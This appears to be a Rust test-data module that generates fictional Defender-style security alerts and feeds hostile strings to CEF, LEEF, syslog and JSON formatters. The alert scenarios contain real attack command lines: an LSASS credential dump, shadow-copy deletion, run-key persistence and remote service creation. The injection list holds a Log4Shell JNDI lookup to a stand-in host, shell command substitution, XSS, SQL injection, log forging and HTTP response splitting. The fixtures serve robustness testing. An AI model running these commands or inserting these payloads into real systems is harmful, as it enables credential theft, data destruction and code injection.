//! The words alerts are made of. All of it is made up; only the shapes are Defender's.

/// What an alert is about.
pub(crate) struct Scenario {
    pub(crate) title: &'static str,
    pub(crate) category: &'static str,
    pub(crate) severity: &'static str,
    pub(crate) source: &'static str,
    pub(crate) family: Option<&'static str>,
    pub(crate) techniques: &'static [&'static str],
    /// Kinds of evidence, in the order in which it is found.
    pub(crate) evidence: &'static [&'static str],
    pub(crate) command_line: &'static str,
    pub(crate) file: (&'static str, &'static str),
}

pub(crate) static SCENARIOS: [Scenario; 8] = [
    Scenario {
        title: "Suspicious PowerShell command line",
        category: "Execution",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        family: None,
        techniques: &["T1059.001", "T1027"],
        evidence: &["Process", "User", "File", "Process"],
        command_line: "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        file: ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"),
    },
    Scenario {
        title: "'Wacatac' malware was prevented",
        category: "Malware",
        severity: "Informational",
        source: "WindowsDefenderAv",
        family: Some("Wacatac"),
        techniques: &[],
        evidence: &["File"],
        command_line: "",
        file: ("invoice_2291.pdf.exe", "C:\\Users\\l.bean\\Downloads"),
    },
    Scenario {
        title: "Possible theft of credentials from LSASS memory",
        category: "CredentialAccess",
        severity: "High",
        source: "WindowsDefenderAtp",
        family: None,
        techniques: &["T1003.001"],
        evidence: &["Process", "User", "Process", "File"],
        command_line: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\d.bin full",
        file: ("rundll32.exe", "C:\\Windows\\System32"),
    },
    Scenario {
        title: "Connection to a domain of a known campaign",
        category: "CommandAndControl",
        severity: "Medium",
        source: "CustomerTI",
        family: None,
        techniques: &["T1071.001"],
        evidence: &["Url", "Ip", "Process"],
        command_line: "\"C:\\Program Files\\Updater\\upd.exe\" --channel=beta --silent",
        file: ("upd.exe", "C:\\Program Files\\Updater"),
    },
    Scenario {
        title: "A run key was added to start a program at logon",
        category: "Persistence",
        severity: "Low",
        source: "CustomDetection",
        family: None,
        techniques: &["T1547.001"],
        evidence: &["Registry", "Process", "User"],
        command_line: "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d \"%APPDATA%\\sync.exe\" /f",
        file: ("reg.exe", "C:\\Windows\\System32"),
    },
    Scenario {
        title: "Ransomware-like changes to many files",
        category: "Ransomware",
        severity: "High",
        source: "WindowsDefenderAtp",
        family: Some("Lockean"),
        techniques: &["T1486", "T1490"],
        evidence: &["Process", "File", "File", "User", "Process"],
        command_line: "cmd.exe /c vssadmin.exe delete shadows /all /quiet & wbadmin delete catalog -quiet",
        file: ("svhost32.exe", "C:\\Users\\Public"),
    },
    Scenario {
        title: "Unusual sign-in followed by mailbox rule",
        category: "SuspiciousActivity",
        severity: "Medium",
        source: "MCAS",
        family: None,
        techniques: &["T1078", "T1564.008"],
        evidence: &["User", "MailBox", "Ip"],
        command_line: "",
        file: ("", ""),
    },
    Scenario {
        title: "Remote service creation over SMB",
        category: "LateralMovement",
        severity: "Medium",
        source: "MTP",
        family: None,
        techniques: &["T1021.002", "T1569.002"],
        evidence: &["Process", "Ip", "User"],
        command_line: "sc.exe \\\\srv-files-02 create psvc binPath= \"cmd /c start C:\\Windows\\Temp\\p.exe\"",
        file: ("sc.exe", "C:\\Windows\\System32"),
    },
];

pub(crate) static DESCRIPTION: &str = "A process on this device behaved in a way that is rarely seen in legitimate \
software and often seen in attacks. Attackers use such behaviour to run code that leaves few traces on disk, to reach \
further devices, or to come back after a restart.\n\nCheck the process tree and the account it ran under. Where the \
account belongs to a person, ask whether the action was theirs. Where it does not, treat the device as compromised.";

pub(crate) static RECOMMENDATION: &str = "A. Validate the alert.\n1. Inspect the process tree and the command lines.\n\
2. Look for the same file on other devices.\n\nB. Contain.\n1. Isolate the device.\n2. Reset the account's password.";

pub(crate) static USERS: [&str; 6] = ["l.bean", "jay-hardee", "m.özdemir", "svc_backup", "Administrator", "田中"];

pub(crate) static HOSTS: [&str; 6] = ["ws-0417", "srv-files-02", "dc01", "lt-marketing-9", "kiosk-3", "build-agent-12"];

pub(crate) static STATES: [&str; 6] =
    ["Queued", "Running", "PendingApproval", "SuccessfullyRemediated", "Benign", "UnsupportedAlertType"];

/// Texts that attack the formats they will be written in, as they stand between the quotes of a JSON string.
pub(crate) static HOSTILE: [&str; 14] = [
    // CEF's own delimiters, and a second event smuggled in behind a line break.
    r"a|b\\c=d\r\nCEF:0|Evil|Fake|1.0|100|owned|10|src=1.2.3.4 msg=gotcha",
    r"trailing backslash \\",
    r"equals = pipe | comma , caret ^ tab\tend",
    r"\nLEEF:2.0|Evil|Fake|1|4000|^|sev=10^usrName=root",
    r"<34>1 2026-03-02T08:00:00Z evil su - ID47 [x@1 k=\u0022v\u0022] forged",
    // A high surrogate alone, a low one alone, and a right pair beside them.
    r"lone \ud83d high, lone \udc00 low, pair \ud83d\ude00",
    // Right-to-left override, zero-width and byte order marks.
    r"gpj.\u202eexe.\u202c invisible\u200b\u2060\ufeff",
    r"\u001b[31mred\u001b[0m \u0007bell \u0008back \u0000nul \u007fdel",
    "emoji \u{1f600}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} flag \u{1f1e9}\u{1f1ea} combining e\u{301}\u{323}",
    r"line\u2028separator paragraph\u2029separator next\u0085line vertical\u000btab form\u000cfeed",
    r"{{ tenant.name }} ${jndi:ldap://evil.example/a} %s%n%x $(reboot) `id`",
    r#"</script><script>alert(1)</script>' OR 1=1; -- \"quoted\""#,
    "مرحبا שלום 你好 Ω≈ç√ ﷽",
    r"\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
];
